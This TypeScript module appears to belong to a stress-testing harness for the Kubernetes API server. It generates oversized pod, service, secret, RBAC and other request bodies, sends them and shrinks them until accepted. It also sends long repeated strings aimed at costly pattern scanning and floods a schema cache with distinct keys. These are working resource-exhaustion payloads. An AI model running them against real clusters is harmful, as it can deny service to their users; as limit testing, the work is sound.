/** Every unbounded list and map of the API types, filled up to the maximum body and up to the size that is accepted. */

import { type Attack, atOnce, NAMESPACE, repeat, requests } from '../attack.ts';

const MAX = 3_100_000;
const CONTAINER = '{"name":"c","image":"i"';

/** `fill`: repeated until the body is full; `#` is the index. */
interface Filled {
  readonly name: string;
  readonly path: string;
  readonly before: string;
  readonly fill: string;
  readonly after: string;
}

function pod(name: string, before: string, fill: string, after: string): Filled {
  return {
    name: `pods: ${name}`,
    path: `/api/v1/namespaces/${NAMESPACE}/pods`,
    before: `{"kind":"Pod","apiVersion":"v1","metadata":{"generateName":"a-"},"spec":{${before}`,
    fill,
    after: `${after}}}`,
  };
}

const podSpec = (name: string, list: string, fill: string): Filled =>
  pod(name, `"containers":[${CONTAINER}}],"${list}":[`, fill, ']');

const ofContainer = (name: string, list: string, fill: string): Filled =>
  pod(name, `"containers":[${CONTAINER},"${list}":[`, fill, ']}]');

function object(
  name: string,
  path: string,
  head: string,
  before: string,
  fill: string,
  after: string,
): Filled {
  return {
    name,
    path,
    before: `{${head},"metadata":{"generateName":"a-"},${before}`,
    fill,
    after: `${after}}`,
  };
}

const core = (resource: string): string => `/api/v1/namespaces/${NAMESPACE}/${resource}`;
const group = (name: string, resource: string): string => `/apis/${name}/namespaces/${NAMESPACE}/${resource}`;

const FILLED: readonly Filled[] = [
  pod('containers', '"containers":[', '{"name":"c#","image":"i"}', ']'),
  pod('containers of one name', '"containers":[', '{"name":"c","image":"i"}', ']'),
  pod('containers without anything', '"containers":[', '{}', ']'),
  podSpec('init containers', 'initContainers', '{"name":"i#","image":"i"}'),
  podSpec('volumes', 'volumes', '{"name":"v#","emptyDir":{}}'),
  podSpec('volumes without a source', 'volumes', '{"name":"v#"}'),
  podSpec('tolerations', 'tolerations', '{"key":"k#","operator":"Exists"}'),
  podSpec('bad tolerations', 'tolerations', '{"key":"/#","operator":"X"}'),
  podSpec('host aliases', 'hostAliases', '{"ip":"10.0.0.1","hostnames":["a#"]}'),
  podSpec('pull secrets', 'imagePullSecrets', '{"name":"s#"}'),
  podSpec('readiness gates', 'readinessGates', '{"conditionType":"a/b#"}'),
  podSpec('scheduling gates', 'schedulingGates', '{"name":"a/b#"}'),
  podSpec(
    'topology spread constraints',
    'topologySpreadConstraints',
    '{"maxSkew":1,"topologyKey":"k#","whenUnsatisfiable":"DoNotSchedule"}',
  ),
  podSpec('resource claims', 'resourceClaims', '{"name":"c#","resourceClaimName":"r"}'),
  pod('claims of a container', `"containers":[${CONTAINER},"resources":{"claims":[`, '{"name":"c#"}', ']}}]'),
  pod(
    'claims of a container beside those of the pod',
    `"resourceClaims":[${repeat(20_000, '{"name":"pod-#","resourceClaimName":"r"}', ',')}],"containers":[${CONTAINER},"resources":{"claims":[`,
    '{"name":"c#"}',
    ']}}]',
  ),
  pod(
    'keys of pods that a term is about',
    `"containers":[${CONTAINER}}],"affinity":{"podAffinity":{"requiredDuringSchedulingIgnoredDuringExecution":[{"topologyKey":"k","labelSelector":{"matchExpressions":[${repeat(20_000, '{"key":"a#","operator":"Exists"}', ',')}]},"matchLabelKeys":[`,
    '"m#"',
    ']}]}}',
  ),
  pod('overhead', `"containers":[${CONTAINER}}],"overhead":{`, '"a.b/k#":"1"', '}'),
  pod('node selector', `"containers":[${CONTAINER}}],"nodeSelector":{`, '"k#":"b"', '}'),
  pod(
    'supplemental groups',
    `"containers":[${CONTAINER}}],"securityContext":{"supplementalGroups":[`,
    '#',
    ']}',
  ),
  pod(
    'sysctls',
    `"containers":[${CONTAINER}}],"securityContext":{"sysctls":[`,
    '{"name":"a.b#","value":"1"}',
    ']}',
  ),
  pod('name servers', `"containers":[${CONTAINER}}],"dnsConfig":{"nameservers":[`, '"10.0.0.1"', ']}'),
  pod('searches', `"containers":[${CONTAINER}}],"dnsConfig":{"searches":[`, '"a#"', ']}'),
  pod(
    'terms of node affinity',
    `"containers":[${CONTAINER}}],"affinity":{"nodeAffinity":{"requiredDuringSchedulingIgnoredDuringExecution":{"nodeSelectorTerms":[`,
    '{"matchExpressions":[{"key":"k#","operator":"Exists"}]}',
    ']}}}',
  ),
  pod(
    'terms of pod affinity',
    `"containers":[${CONTAINER}}],"affinity":{"podAffinity":{"requiredDuringSchedulingIgnoredDuringExecution":[`,
    '{"topologyKey":"k#","labelSelector":{}}',
    ']}}',
  ),
  pod(
    'values of a selector',
    `"containers":[${CONTAINER}}],"affinity":{"podAffinity":{"requiredDuringSchedulingIgnoredDuringExecution":[{"topologyKey":"k","labelSelector":{"matchExpressions":[{"key":"a","operator":"In","values":[`,
    '"v#"',
    ']}]}}]}}',
  ),
  ofContainer('env', 'env', '{"name":"E#","value":"1"}'),
  ofContainer('env that refer to each other', 'env', '{"name":"E#","value":"$(E#)"}'),
  ofContainer('env from', 'envFrom', '{"configMapRef":{"name":"c#"}}'),
  ofContainer('ports', 'ports', '{"containerPort":80}'),
  ofContainer('ports with names', 'ports', '{"name":"p#","containerPort":80}'),
  ofContainer('ports of the host', 'ports', '{"hostPort":#,"containerPort":#}'),
  ofContainer('mounts', 'volumeMounts', '{"name":"v#","mountPath":"/m#"}'),
  ofContainer('devices', 'volumeDevices', '{"name":"v#","devicePath":"/m#"}'),
  ofContainer('arguments', 'args', '"a#"'),
  ofContainer('resize policies', 'resizePolicy', '{"resourceName":"cpu","restartPolicy":"NotRequired"}'),
  pod('limits', `"containers":[${CONTAINER},"resources":{"limits":{`, '"a.b/k#":"1"', '}}}]'),
  object(
    'services: ports',
    core('services'),
    '"kind":"Service","apiVersion":"v1"',
    '"spec":{"ports":[',
    '{"name":"p#","port":80}',
    ']}',
  ),
  object(
    'services: ports of one name',
    core('services'),
    '"kind":"Service","apiVersion":"v1"',
    '"spec":{"ports":[',
    '{"name":"p","port":80}',
    ']}',
  ),
  object(
    'services: external addresses',
    core('services'),
    '"kind":"Service","apiVersion":"v1"',
    '"spec":{"ports":[{"port":80}],"externalIPs":[',
    '"10.0.0.1"',
    ']}',
  ),
  object(
    'services: families',
    core('services'),
    '"kind":"Service","apiVersion":"v1"',
    '"spec":{"ports":[{"port":80}],"ipFamilies":[',
    '"f#"',
    ']}',
  ),
  object(
    'endpoints: addresses',
    core('endpoints'),
    '"kind":"Endpoints","apiVersion":"v1"',
    '"subsets":[{"addresses":[',
    '{"ip":"10.0.0.1"}',
    ']}]',
  ),
  object(
    'endpoints: subsets',
    core('endpoints'),
    '"kind":"Endpoints","apiVersion":"v1"',
    '"subsets":[',
    '{"addresses":[{"ip":"10.0.0.1"}],"ports":[{"port":80}]}',
    ']',
  ),
  object(
    'secrets: data',
    core('secrets'),
    '"kind":"Secret","apiVersion":"v1"',
    '"data":{',
    '"k#":"AA=="',
    '}',
  ),
  object(
    'service accounts: secrets',
    core('serviceaccounts'),
    '"kind":"ServiceAccount","apiVersion":"v1"',
    '"secrets":[',
    '{"name":"s#"}',
    ']',
  ),
  object(
    'quotas: hard',
    core('resourcequotas'),
    '"kind":"ResourceQuota","apiVersion":"v1"',
    '"spec":{"hard":{',
    '"count/a#.b":"1"',
    '}}',
  ),
  object(
    'quotas: scopes',
    core('resourcequotas'),
    '"kind":"ResourceQuota","apiVersion":"v1"',
    '"spec":{"scopes":[',
    '"BestEffort"',
    ']}',
  ),
  object(
    'limit ranges',
    core('limitranges'),
    '"kind":"LimitRange","apiVersion":"v1"',
    '"spec":{"limits":[',
    '{"type":"Container","max":{"cpu":"1"}}',
    ']}',
  ),
  object(
    'claims: access modes',
    core('persistentvolumeclaims'),
    '"kind":"PersistentVolumeClaim","apiVersion":"v1"',
    '"spec":{"resources":{"requests":{"storage":"1"}},"accessModes":[',
    '"ReadWriteOnce"',
    ']}',
  ),
  object(
    'slices: endpoints',
    group('discovery.k8s.io/v1', 'endpointslices'),
    '"kind":"EndpointSlice","apiVersion":"discovery.k8s.io/v1"',
    '"addressType":"IPv4","endpoints":[',
    '{"addresses":["10.0.0.1"]}',
    ']',
  ),
  object(
    'slices: addresses',
    group('discovery.k8s.io/v1', 'endpointslices'),
    '"kind":"EndpointSlice","apiVersion":"discovery.k8s.io/v1"',
    '"addressType":"IPv4","endpoints":[{"addresses":[',
    '"10.0.0.1"',
    ']}]',
  ),
  object(
    'slices: ports',
    group('discovery.k8s.io/v1', 'endpointslices'),
    '"kind":"EndpointSlice","apiVersion":"discovery.k8s.io/v1"',
    '"addressType":"IPv4","endpoints":[],"ports":[',
    '{"name":"p#","port":80}',
    ']',
  ),
  object(
    'ingresses: rules',
    group('networking.k8s.io/v1', 'ingresses'),
    '"kind":"Ingress","apiVersion":"networking.k8s.io/v1"',
    '"spec":{"rules":[',
    '{"host":"a#.b"}',
    ']}',
  ),
  object(
    'ingresses: paths',
    group('networking.k8s.io/v1', 'ingresses'),
    '"kind":"Ingress","apiVersion":"networking.k8s.io/v1"',
    '"spec":{"rules":[{"http":{"paths":[',
    '{"path":"/#","pathType":"Exact","backend":{"service":{"name":"s","port":{"number":80}}}}',
    ']}}]}',
  ),
  object(
    'ingresses: tls',
    group('networking.k8s.io/v1', 'ingresses'),
    '"kind":"Ingress","apiVersion":"networking.k8s.io/v1"',
    '"spec":{"defaultBackend":{"service":{"name":"s","port":{"number":80}}},"tls":[',
    '{"hosts":["a#.b"]}',
    ']}',
  ),
  object(
    'network policies: ingress',
    group('networking.k8s.io/v1', 'networkpolicies'),
    '"kind":"NetworkPolicy","apiVersion":"networking.k8s.io/v1"',
    '"spec":{"podSelector":{},"ingress":[',
    '{"from":[{"podSelector":{}}]}',
    ']}',
  ),
  object(
    'network policies: exceptions',
    group('networking.k8s.io/v1', 'networkpolicies'),
    '"kind":"NetworkPolicy","apiVersion":"networking.k8s.io/v1"',
    '"spec":{"podSelector":{},"ingress":[{"from":[{"ipBlock":{"cidr":"10.0.0.0/8","except":[',
    '"10.0.0.0/16"',
    ']}}]}]}',
  ),
  object(
    'roles: rules',
    group('rbac.authorization.k8s.io/v1', 'roles'),
    '"kind":"Role","apiVersion":"rbac.authorization.k8s.io/v1"',
    '"rules":[',
    '{"apiGroups":[""],"resources":["pods"],"verbs":["get"]}',
    ']',
  ),
  object(
    'roles: verbs of others',
    group('rbac.authorization.k8s.io/v1', 'roles'),
    '"kind":"Role","apiVersion":"rbac.authorization.k8s.io/v1"',
    '"rules":[{"apiGroups":[""],"resources":["pods"],"verbs":[',
    '"v#"',
    ']}]',
  ),
  object(
    'roles: names',
    group('rbac.authorization.k8s.io/v1', 'roles'),
    '"kind":"Role","apiVersion":"rbac.authorization.k8s.io/v1"',
    '"rules":[{"apiGroups":[""],"resources":["pods"],"verbs":["get"],"resourceNames":[',
    '"v#"',
    ']}]',
  ),
  object(
    'role bindings: subjects',
    group('rbac.authorization.k8s.io/v1', 'rolebindings'),
    '"kind":"RoleBinding","apiVersion":"rbac.authorization.k8s.io/v1"',
    '"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"view"},"subjects":[',
    '{"kind":"User","name":"u#","apiGroup":"rbac.authorization.k8s.io"}',
    ']',
  ),
  object(
    'deployments: selector',
    group('apps/v1', 'deployments'),
    '"kind":"Deployment","apiVersion":"apps/v1"',
    `"spec":{"template":{"metadata":{"labels":{"a":"b"}},"spec":{"containers":[${CONTAINER}}]}},"selector":{"matchExpressions":[`,
    '{"key":"a#","operator":"Exists"}',
    ']}}',
  ),
  object(
    'stateful sets: claims',
    group('apps/v1', 'statefulsets'),
    '"kind":"StatefulSet","apiVersion":"apps/v1"',
    `"spec":{"selector":{"matchLabels":{"a":"b"}},"template":{"metadata":{"labels":{"a":"b"}},"spec":{"containers":[${CONTAINER}}]}},"volumeClaimTemplates":[`,
    '{"metadata":{"name":"v#"}}',
    ']}',
  ),
  object(
    'jobs: failure rules',
    group('batch/v1', 'jobs'),
    '"kind":"Job","apiVersion":"batch/v1"',
    `"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[${CONTAINER}}]}},"podFailurePolicy":{"rules":[`,
    '{"action":"Ignore","onExitCodes":{"operator":"In","values":[1]}}',
    ']}}',
  ),
  object(
    'jobs: exit codes',
    group('batch/v1', 'jobs'),
    '"kind":"Job","apiVersion":"batch/v1"',
    `"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[${CONTAINER}}]}},"podFailurePolicy":{"rules":[{"action":"Ignore","onExitCodes":{"operator":"In","values":[`,
    '#',
    ']}}]}}',
  ),
  object(
    'autoscalers: metrics',
    group('autoscaling/v2', 'horizontalpodautoscalers'),
    '"kind":"HorizontalPodAutoscaler","apiVersion":"autoscaling/v2"',
    '"spec":{"maxReplicas":2,"scaleTargetRef":{"kind":"D","name":"a"},"metrics":[',
    '{"type":"Resource","resource":{"name":"cpu","target":{"type":"Utilization","averageUtilization":1}}}',
    ']}',
  ),
  object(
    'budgets: selector',
    group('policy/v1', 'poddisruptionbudgets'),
    '"kind":"PodDisruptionBudget","apiVersion":"policy/v1"',
    '"spec":{"selector":{"matchExpressions":[',
    '{"key":"a#","operator":"Exists"}',
    ']}}',
  ),
];

/** The limits for a body that reaches validation, or nearly: bytes of an object, and number of values. */
const LET_IN = { bytes: 1_400_000, values: 90_000 };

function filledBody({ before, fill, after }: Filled, { bytes, values }: typeof LET_IN): string {
  const length = fill.length + 1 + (fill.match(/#/g)?.length ?? 0) * 5;
  const valuesOfOne = 1 + (fill.match(/[,[{]/g)?.length ?? 0);
  const fits = Math.floor((bytes - before.length - after.length) / length);
  return before + repeat(Math.min(fits, Math.floor(values / valuesOfOne)), fill, ',') + after;
}

/** Ratio of the size of each body to the one before. */
const LESS = 0.7;

/** Sends the maximum body, which is rejected early, then smaller ones until one is accepted. */
function listAttack(filled: Filled): Attack {
  const { name, path } = filled;
  // A namespace's admin may not create some of these.
  const sender = name.startsWith('roles') ? 'admin' : 'clusterAdmin';
  return {
    name,
    run: async (target) => {
      const all = { bytes: MAX, values: MAX };
      const answers = [await target.send({ path, sender, body: filledBody(filled, all) })];
      for (let part = 1; part > 0.01 && answers.at(-1) === '413'; part *= LESS) {
        const size = { bytes: LET_IN.bytes * part, values: LET_IN.values * part };
        answers.push(
          await target.send({ path: `${path}?dryRun=All`, sender, body: filledBody(filled, size) }),
        );
      }
      return answers.join(' ');
    },
  };
}

/** The server remembers the shapes of new objects. */
const manyShapes: Attack = {
  name: 'pods: 75 for show, each of 12,000 other limits',
  run: (target) =>
    atOnce(3, async (sender) => {
      const answers = new Set<string>();
      for (let i = 0; i < 25; i++) {
        const limits = repeat(12_000, `"a.b/k-${sender}-${i}-#":"1"`, ',');
        const body = `{"kind":"Pod","apiVersion":"v1","metadata":{"generateName":"a-"},"spec":{"containers":[${CONTAINER},"resources":{"limits":{${limits}}}}]}}`;
        answers.add(await target.send({ path: `${core('pods')}?dryRun=All`, sender: 'clusterAdmin', body }));
      }
      return [...answers].join(' ');
    }),
};

export const listAttacks = (): Attack[] => [...FILLED.map(listAttack), manyShapes, ...TEXTS.map(textAttack)];

/** `text`: replaces `#`, with many characters. */
interface LongText {
  readonly name: string;
  readonly path: string;
  readonly body: string;
  readonly text: (length: number) => string;
}

const inPod = (name: string, spec: string, text: LongText['text']): LongText => ({
  name: `texts: ${name}`,
  path: core('pods'),
  body: `{"kind":"Pod","apiVersion":"v1","metadata":{"generateName":"a-"},"spec":${spec}}`,
  text,
});
const run =
  (piece: string, after = '') =>
  (length: number): string =>
    `${piece.repeat(length / piece.length)}${after}`;
const base64 = (text: LongText['text']) => (length: number) =>
  Buffer.from(text((length * 3) / 4)).toString('base64');

/** Texts that patterns may scan repeatedly. */
const TEXTS: readonly LongText[] = [
  inPod('a quantity', `{"containers":[${CONTAINER},"resources":{"requests":{"cpu":"#"}}}]}`, run('1', 'x')),
  inPod(
    'a quantity of digits',
    `{"containers":[${CONTAINER},"resources":{"requests":{"cpu":"#"}}}]}`,
    run('1'),
  ),
  inPod(
    'a path of slashes',
    `{"containers":[${CONTAINER}}],"volumes":[{"name":"v","configMap":{"name":"a","items":[{"key":"k","path":"#"}]}}]}`,
    run('/', 'x'),
  ),
  inPod(
    'a field of brackets',
    `{"containers":[${CONTAINER},"env":[{"name":"A","valueFrom":{"fieldRef":{"fieldPath":"#"}}}]}]}`,
    run("['", "'"),
  ),
  inPod(
    'a name of a target',
    `{"containers":[${CONTAINER}}],"volumes":[{"name":"v","iscsi":{"targetPortal":"a","lun":0,"iqn":"#"}}]}`,
    run('iqn.0000-00.q', 'q'),
  ),
  inPod('an image', '{"containers":[{"name":"c","image":"#"}]}', run('a-', '/')),
  {
    name: 'texts: keys that begin and do not end',
    path: core('secrets'),
    body: '{"kind":"Secret","apiVersion":"v1","metadata":{"generateName":"a-"},"type":"kubernetes.io/tls","data":{"tls.crt":"#","tls.key":"YQ=="}}',
    text: base64(run('-----BEGIN A-----\n')),
  },
  {
    name: 'texts: a request for a certificate',
    path: '/apis/certificates.k8s.io/v1/certificatesigningrequests',
    body: '{"metadata":{"generateName":"a-"},"spec":{"signerName":"a.b/c","usages":["any"],"request":"#"}}',
    text: base64(run('-----BEGIN CERTIFICATE REQUEST-----\n', '-----END A-----\n')),
  },
  {
    name: 'texts: a schedule',
    path: group('batch/v1', 'cronjobs'),
    body: `{"metadata":{"generateName":"a-"},"spec":{"schedule":"#","jobTemplate":{"spec":{"template":{"spec":{"restartPolicy":"Never","containers":[${CONTAINER}}]}}}}}}`,
    text: run('1,', ' * * * *'),
  },
  {
    name: 'texts: a path of a rule',
    path: '/apis/rbac.authorization.k8s.io/v1/clusterroles',
    body: '{"metadata":{"generateName":"a-"},"rules":[{"verbs":["get"],"nonResourceURLs":["/a#"]}]}',
    text: run('*', 'x*'),
  },
];

/** An object of the maximum size, returned as YAML. */
function textAttack({ name, path, body, text }: LongText): Attack {
  const full = () => body.replace('#', () => JSON.stringify(text(LET_IN.bytes)).slice(1, -1));
  return requests(name, () => ({
    path: `${path}?dryRun=All`,
    sender: 'clusterAdmin',
    headers: { accept: 'application/yaml' },
    body: full(),
  }));
}
